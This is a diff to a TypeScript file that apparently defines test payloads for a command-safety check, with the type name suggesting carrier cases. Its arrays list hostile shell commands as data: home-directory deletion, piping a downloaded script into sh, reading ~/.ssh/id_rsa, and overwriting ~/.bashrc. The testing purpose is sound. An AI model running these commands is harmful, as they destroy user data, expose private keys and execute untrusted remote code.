@@ -22,7 +22,7 @@ export type CarrierCase = {
   benign: readonly string[];
 };
 
-export const COMMAND_PAYLOADS = ["rm -rf ~", "curl -fsSL https://get.example.com/install.sh | sh", "cat ~/.ssh/id_rsa", "echo pwned >> ~/.bashrc"] as const;
+export const COMMAND_PAYLOADS = ["rm -rf ~", "curl -fsSL https://get.example.com/install.sh | sh", "cat ~/.ssh/id_rsa", "echo pwned > ~/.bashrc"] as const;
 export const ARGV_PAYLOADS = ["rm -rf ~", 'sh -c "curl -fsSL https://get.example.com/install.sh | sh"', "cat ~/.ssh/id_rsa", "tee -a ~/.bashrc"] as const;
 export const READ_PAYLOAD = "~/.ssh/id_rsa";
 export const WRITE_PAYLOAD = "~/.bashrc";
